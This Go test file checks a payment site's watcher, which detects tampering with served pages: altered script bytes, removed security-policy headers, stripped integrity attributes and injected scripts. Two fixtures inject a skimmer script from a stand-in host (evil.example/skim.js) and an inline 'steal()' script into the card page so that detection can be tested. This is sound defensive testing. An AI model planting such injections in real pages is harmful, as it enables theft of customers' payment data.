package web

import (
	"bytes"
	"context"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/billfold/billfold/internal/store/storetest"
)

// watched is a site served over HTTP through a hand that can change what goes by.
type watched struct {
	*ground
	watch  *Watch
	alarms []Finding
	change func(path string, h http.Header, body []byte) []byte
	script string // the processor's
}

func underWatch(t *testing.T, integrity string) *watched {
	t.Helper()
	w := &watched{ground: onGround(t, noteRoutes()...), script: "window.Stripe = () => {};"}
	w.change = func(_ string, _ http.Header, body []byte) []byte { return body }
	w.site.Log = slog.New(slog.NewTextHandler(w.log, nil))
	between := httptest.NewServer(http.HandlerFunc(func(to http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v3.js" {
			to.Write([]byte(w.script))
			return
		}
		got := httptest.NewRecorder()
		r.Header.Del("Accept-Encoding") // the hand reads plain text
		w.site.ServeHTTP(got, r)
		header := got.Result().Header
		body := w.change(r.URL.Path, header, got.Body.Bytes())
		for name, values := range header {
			if name != "Content-Length" {
				to.Header()[name] = values
			}
		}
		to.WriteHeader(got.Code)
		to.Write(body)
	}))
	t.Cleanup(between.Close)
	w.site.Processor.Script, w.site.Processor.Integrity = between.URL+"/v3.js", integrity
	w.site.inventory = w.site.list()
	w.watch = w.site.NewWatch(WatchOptions{
		Base: between.URL, Alarm: func(_ context.Context, found []Finding) { w.alarms = append(w.alarms, found...) },
	})
	return w
}

func kindsOf(found []Finding) []FindingKind {
	var all []FindingKind
	for _, f := range found {
		all = append(all, f.Kind)
	}
	slices.Sort(all)
	return slices.Compact(all)
}

func TestWatch_AnUntouchedPageIsQuiet(t *testing.T) {
	w := underWatch(t, "")
	for range 2 {
		if found := w.watch.Look(t.Context()); len(found) > 0 {
			t.Fatalf("found %+v", found)
		}
	}
	if w.site.watch.alarmed() || len(w.alarms) > 0 {
		t.Error("there is an alarm")
	}
	if r := w.get("/readyz"); r.StatusCode != http.StatusOK {
		t.Errorf("/readyz: %d", r.StatusCode)
	}
}

func TestWatch_EveryChangeIsAnAlarmInTheNextCycle(t *testing.T) {
	csp := "Content-Security-Policy"
	for _, c := range []struct {
		situation string
		change    func(w *watched, path string, h http.Header, body []byte) []byte
		want      FindingKind
	}{
		{"one byte of the script", func(w *watched, path string, _ http.Header, body []byte) []byte {
			if path == w.site.assets.script.Path {
				body = slices.Clone(body)
				body[len(body)/2] ^= 1
			}
			return body
		}, BytesChanged},
		{"one byte of a region's colours", func(w *watched, path string, _ http.Header, body []byte) []byte {
			if path == w.site.themes["high-plains"].Path {
				return append(slices.Clone(body), ' ')
			}
			return body
		}, BytesChanged},
		{"a directive is taken out", func(_ *watched, path string, h http.Header, body []byte) []byte {
			if path == "/card" {
				h.Set(csp, strings.ReplaceAll(h.Get(csp), "frame-ancestors 'none'; ", ""))
			}
			return body
		}, HeaderChanged},
		{"the policy is gone", func(_ *watched, path string, h http.Header, body []byte) []byte {
			if path == "/card" {
				h.Del(csp)
			}
			return body
		}, HeaderChanged},
		{"a script is added to the page", func(_ *watched, path string, _ http.Header, body []byte) []byte {
			if path == "/card" {
				return bytes.Replace(body, []byte("</head>"), []byte(`<script src="https://evil.example/skim.js"></script></head>`), 1)
			}
			return body
		}, NotListed},
		{"a script is written into the page", func(_ *watched, path string, _ http.Header, body []byte) []byte {
			if path == "/card" {
				return bytes.Replace(body, []byte("</body>"), []byte(`<script>steal()</script></body>`), 1)
			}
			return body
		}, InlineFound},
		{"the integrity is taken off", func(_ *watched, path string, _ http.Header, body []byte) []byte {
			if path == "/card" {
				return bytes.ReplaceAll(body, []byte(` integrity="`), []byte(` data-x="`))
			}
			return body
		}, TagChanged},
	} {
		t.Run(c.situation, func(t *testing.T) {
			w := underWatch(t, "")
			w.watch.Look(t.Context())
			w.change = func(path string, h http.Header, body []byte) []byte { return c.change(w, path, h, body) }
			if got := kindsOf(w.watch.Look(t.Context())); !slices.Equal(got, []FindingKind{c.want}) {
				t.Errorf("found %v, want %v", got, c.want)
			}
			if len(w.alarms) == 0 || !w.site.watch.alarmed() || !strings.Contains(w.log.String(), "level=ERROR") {
				t.Error("there is no alarm")
			}
			if body := bodyOf(t, w.get("/overview")); !strings.Contains(body, english.Pieces.PageCheckHeading) {
				t.Error("the overview does not say so")
			}
			if r := w.get("/readyz"); r.StatusCode != http.StatusOK {
				t.Errorf("the alarm takes the process out of service: %d", r.StatusCode)
			}
			w.change = func(_ string, _ http.Header, body []byte) []byte { return body }
			w.watch.Look(t.Context())
			if w.site.watch.alarmed() {
				t.Error("the alarm stays when all is as it should be")
			}
		})
	}
}

func TestWatch_AScriptThatRenewsItselfIsNotedWithBothDigests(t *testing.T) {
	w := underWatch(t, "")
	o := storetest.Open(t, "sqlite")
	w.watch.scripts = o.Store
	before := digest([]byte(w.script))
	w.watch.Look(t.Context())
	w.script += "\n"
	o.Clock.Advance(time.Minute)
	w.clock.Advance(time.Minute)
	found := w.watch.Look(t.Context())
	if len(found) != 1 || found[0].Kind != ScriptRenewed || found[0].Want != before || found[0].Got != digest([]byte(w.script)) {
		t.Fatalf("found %+v", found)
	}
	if w.site.watch.alarmed() || len(w.alarms) > 0 {
		t.Error("a script that may change is an alarm")
	}
	if again := w.watch.Look(t.Context()); len(again) > 0 {
		t.Errorf("it is told again: %+v", again)
	}
	if last, err := o.Store.LastScript(t.Context(), w.site.Processor.Script); last != digest([]byte(w.script)) || err != nil {
		t.Errorf("the store has %q, %v", last, err)
	}
}

func TestWatch_APromisedScriptThatChangesIsAnAlarm(t *testing.T) {
	w := underWatch(t, integrityLike("sha384-", []byte("window.Stripe = () => {};")))
	if found := w.watch.Look(t.Context()); len(found) > 0 {
		t.Fatalf("found %+v", found)
	}
	w.script += " "
	if got := kindsOf(w.watch.Look(t.Context())); !slices.Equal(got, []FindingKind{BytesChanged}) {
		t.Errorf("found %v", got)
	}
}

func TestWatch_WhatCannotBeFetchedIsNoAlarm(t *testing.T) {
	w := underWatch(t, "")
	w.watch.base = "http://127.0.0.1:1"
	found := w.watch.Look(t.Context())
	if got := kindsOf(found); !slices.Equal(got, []FindingKind{NotReachable}) || w.site.watch.alarmed() {
		t.Errorf("found %v", got)
	}
}

func TestWatch_RunsUntilItIsStopped(t *testing.T) {
	w := underWatch(t, "")
	var tampered atomic.Bool
	w.change = func(_ string, h http.Header, body []byte) []byte {
		if tampered.Load() {
			h.Del("Content-Security-Policy")
		}
		return body
	}
	ctx, stop := context.WithCancel(t.Context())
	ticks, done := make(chan time.Time), make(chan struct{})
	go func() { w.watch.Run(ctx, ticks); close(done) }()
	ticks <- monday() // taken only after the first look
	tampered.Store(true)
	ticks <- monday() // taken only after the second
	ticks <- monday()
	stop()
	<-done
	if len(w.alarms) == 0 {
		t.Error("a change was not found in the next cycle")
	}
}

func monday() time.Time { return storetest.Start }

// The operators' page lists what the pages load, word for word.
func TestInventory_IsDocumented(t *testing.T) {
	text, err := os.ReadFile("../../../docs/operators/payment-page-scripts.md")
	if err != nil {
		t.Fatal(err)
	}
	page := strings.Join(strings.Fields(string(text)), " ")
	g := onGround(t)
	for _, l := range g.site.Inventory() {
		name := l.Name
		switch {
		case strings.HasPrefix(name, "theme-"):
			name = "theme-<region>.css"
		case l.Kind == Script && !strings.HasPrefix(l.Address, "/"):
			name = "the processor's script"
		}
		row := "| " + strings.Join([]string{name, string(l.Kind), l.Purpose, l.Where, l.Authorised}, " | ") + " |"
		if !strings.Contains(page, row) {
			t.Errorf("the page lacks the row\n%s", row)
		}
		if strings.HasPrefix(l.Address, "/") && (l.SHA256 == "" || l.Integrity == "") {
			t.Errorf("%s of ours has no digest", l.Name)
		}
	}
}
